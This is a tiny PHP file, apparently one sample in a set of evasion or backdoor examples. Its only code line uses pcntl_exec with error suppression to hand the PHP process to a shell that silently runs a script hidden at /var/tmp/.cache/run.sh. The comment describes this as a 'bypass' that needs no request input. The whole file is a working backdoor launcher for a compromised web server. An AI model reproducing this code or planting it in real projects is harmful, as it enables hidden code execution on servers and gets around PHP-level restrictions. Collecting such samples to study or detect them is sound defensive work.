<?php
// The same bypass with no request read in sight: a planted script started by a shell that
// replaces the PHP process.
@pcntl_exec("/bin/sh", array("-c", "/var/tmp/.cache/run.sh >/dev/null 2>&1"));
